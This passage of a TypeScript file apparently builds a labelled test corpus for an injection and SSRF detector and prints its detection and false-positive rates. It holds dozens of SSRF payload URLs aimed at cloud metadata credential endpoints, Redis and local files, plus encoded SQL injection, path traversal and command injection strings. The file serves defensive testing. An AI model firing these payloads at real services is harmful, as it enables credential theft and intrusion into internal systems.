  (h) => `https://${h}:8443/latest/meta-data/iam/security-credentials/`,
  (h) => `http://${h}:6379`,
  (h) => `HTTP://${h}/admin?x=1`,
  (h) => `//${h}/`,
  (h) => `http://${h}`,
];

function urlAttacks(out: RedteamEntry[]): void {
  for (const [i, h] of INTERNAL_HOSTS.entries()) {
    out.push({ kind: 'url', cls: 'ssrf', label: 'attack', value: (URL_SHAPES[i % URL_SHAPES.length] as (h: string) => string)(h) });
  }
  const other = [
    'http://evil.com@127.0.0.1/', 'http://user:pass@example.com/', 'http://127.0.0.1#@evil.com/', 'http://evil.com\\@127.0.0.1/',
    'http://example.com\\.127.0.0.1/', 'file:///etc/passwd', 'FILE:///c:/windows/win.ini', 'gopher://127.0.0.1:6379/_INFO', 'dict://localhost:11211/stat',
    'ldap://localhost:389/%0astats', 'tftp://10.0.0.1/x', 'sftp://evil.com:11111/', 'netdoc:///etc/passwd', 'jar:http://127.0.0.1!/',
    'jar:https://example.com/x.jar!/a', 'ftp://127.0.0.1/', 'ws://localhost:9000/', 'http:/\\/127.0.0.1/', 'http:///127.0.0.1/',
    'http://127.0.0.1:80\\@example.com/', 'https://example.com%0d%0aHost:127.0.0.1/', 'http://[::ffff:169.254.169.254]/latest/',
    'http://0/', 'http://127.0.0.1:22/', 'https://localhost:443@example.com', 'http:127.0.0.1/', 'http:\\\\127.0.0.1\\',
    ' http://127.0.0.1/', 'http://127.0.0.1\t/', 'http://metadata.google.internal./computeMetadata/v1/',
    'http://1.1.1.1 &@2.2.2.2# @3.3.3.3/', 'http://127.0.0.1:8080@evil.com/', 'http://evil.com:80#@127.0.0.1/', 'https://evil$.com@127.0.0.1',
    'http://%6c%6f%63%61%6c%68%6f%73%74/', 'http://127.0.0.1%0d%0aX-Injected:1/', 'http://[::1]:80/', 'gopher://localhost:25/_HELO',
    'dict://127.0.0.1:6379/info', 'ldaps://10.0.0.1/', 'smb://10.0.0.1/share', 'php://filter/resource=http://127.0.0.1', 'mailto:root@localhost',
    'http://169.254.169.254.xip.io/', 'https://0x7f000001.nip.io', 'https://localtest.me:8443/', 'http://example.com@@127.0.0.1/',
    'http://metadata.tencentyun.com/latest/meta-data/', 'http://consul.service.consul:8500/v1/kv/', 'http://host.docker.internal:2375/',
    'http://\u246f\u2468\uff61\u2461\u2464\u2463\uff61\u246f\u2468\uff61\u2461\u2464\u2463/',
  ];
  for (const v of other) out.push({ kind: 'url', cls: 'ssrf', label: 'attack', value: v });
}

function urlBenign(out: RedteamEntry[]): void {
  const values = [
    'https://github.com/user/repo?tab=readme#section', 'https://example.com:8443/api?x=1&y=2', 'http://10times.com/events',
    'https://1password.com/downloads', 'https://api.github.com/repos/x/y/issues?state=open', 'https://en.wikipedia.org/wiki/Localhost',
    'https://docs.python.org/3/library/ipaddress.html#ipaddress.ip_address', 'https://www.google.com/search?q=127.0.0.1',
    'https://8.8.8.8/', 'https://1.1.1.1/dns-query', 'https://[2606:4700:4700::1111]/', 'http://xn--bcher-kva.example/',
    'https://example.com/path/with%20space', 'https://medium.com/@alice/post-title', 'https://sub.domain.co.uk:443/', 'https://example.com./',
    'https://172.32.0.1/', 'https://100.128.0.1/', 'https://11.0.0.1/', 'https://169.255.0.1/', 'https://192.169.1.1/',
    'https://127example.com/', 'https://10.com/', 'https://localhost.example.com/docs', 'https://internal.example.com/wiki',
    'https://nip.io/', 'https://example.com/localhost/127.0.0.1', 'https://cdn.jsdelivr.net/npm/pkg@1.2.3/dist/x.js',
    'https://example.com/?redirect=%2Fhome', 'https://user-images.githubusercontent.com/1/2.png', 'https://www.example.org/a/b/c.html?q=a+b',
    'https://s3.amazonaws.com/bucket/key', 'https://storage.googleapis.com/b/o', 'https://api.openai.com/v1/models',
    'http://example.com:80/', 'https://www.bbc.co.uk/news', 'https://example.com/search?q=select+*+from', 'https://xn--80ak6aa92e.com/',
    'https://münchen.de/', 'https://example.com/a;b=c', 'https://example.com/%7Euser/', 'https://192.0.2.10.example.net/',
    'https://2001-db8.example.com/', 'https://x.com/i/status/1', 'https://metadata.example.com/', 'https://kubernetes.io/docs/',
    'https://example.com/?a=1&b=2#frag', 'https://example.com:443', 'https://example.com/path?email=a@b.com', 'https://www.reddit.com/r/node/',
    'https://example.com/a/../b', 'https://raw.githubusercontent.com/u/r/main/README.md', 'https://1.2.3.4.example.com/', 'https://router.example.org/192.168.1.1',
    'http://ipv4.icanhazip.com/', 'https://www.10.com.au/', 'https://api.example.com/v1/items?limit=10&offset=20', 'https://example.museum/',
    'https://xn--fiq228c.com/', 'https://example.com/search?q=%E4%B8%AD%E6%96%87', 'HTTPS://EXAMPLE.COM/UPPER', 'https://example.com/#/route?x=1',
    'https://github.com/o/r/issues/new?body=line1%0D%0Aline2', 'https://example.com/search?q=a%0Ab',
  ];
  for (const v of values) out.push({ kind: 'url', cls: 'none', label: 'benign', value: v });
}

// ---------------------------------------------------------------------------------------

export function redteamSet(): RedteamEntry[] {
  const out: RedteamEntry[] = [];
  pathAttacks(out);
  pathBenign(out);
  shellAttacks(out);
  shellBenign(out);
  sqlAttacks(out);
  sqlBenign(out);
  fragmentAttacks(out);
  fragmentBenign(out);
  urlAttacks(out);
  urlBenign(out);
  // Encoded copies of a few attacks: a value may reach the detector still URL-encoded.
  for (const v of ["' OR '1'='1", "admin'--", "' UNION SELECT 1--"]) {
    out.push({ kind: 'sql-fragment', cls: 'sqli', label: 'attack', value: enc(v) });
    out.push({ kind: 'sql-fragment', cls: 'sqli', label: 'attack', value: encUpper(v) });
  }
  out.push({ kind: 'path', cls: 'traversal', label: 'attack', value: enc('../../etc/passwd') });
  out.push({ kind: 'path', cls: 'traversal', label: 'attack', value: fullwidth('../../etc/passwd') });
  out.push({ kind: 'shell', cls: 'cmdi', label: 'attack', value: enc('x;id') });
  const seen = new Set<string>();
  return out.filter((e) => {
    const key = `${e.kind}\u0000${e.value}`;
    if (seen.has(key)) return false;
    seen.add(key);
    return true;
  });
}

/** Rates per kind and class, attacks first (TPR), then benign values (FPR), as detection.ts measures the corpus. */
export function evaluate(entries: readonly RedteamEntry[]): Array<RateRow & { label: 'attack' | 'benign' }> {
  return (['attack', 'benign'] as const).flatMap((label) =>
    measure(entries.filter((e) => e.label === label).map(asCorpusEntry)).map((row) => ({ ...row, label })),
  );
}

async function main(): Promise<void> {
  await initSqlParser();
  const rows = evaluate(redteamSet());
  if (process.argv.includes('--json')) {
    console.log(JSON.stringify(rows.map(({ wrong: _w, mbPerSecond: _s, ...r }) => r)));
    return;
  }
  console.log('| kind | class | label | count | flagged | rate |');
  console.log('|---|---|---|--:|--:|--:|');
  for (const r of rows) {
    const rate = ((r.hits / r.count) * 100).toFixed(2);
    console.log(`| ${r.kind} | ${r.cls} | ${r.label} | ${r.count} | ${r.hits} | ${rate} % ${r.label === 'attack' ? 'TPR' : 'FPR'} |`);
  }
  if (process.argv.includes('--misses')) {
    for (const r of rows) {
      if (r.wrong.length === 0) continue;
      console.log(`\n## ${r.label === 'attack' ? 'missed' : 'false positives'}: ${r.kind}/${r.cls} (${r.wrong.length})`);
      for (const m of r.wrong) console.log(JSON.stringify(m));
    }
  }
}

if (process.argv[1] !== undefined && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main().catch((err: unknown) => {
    console.error(err);
    process.exitCode = 1;
  });
}
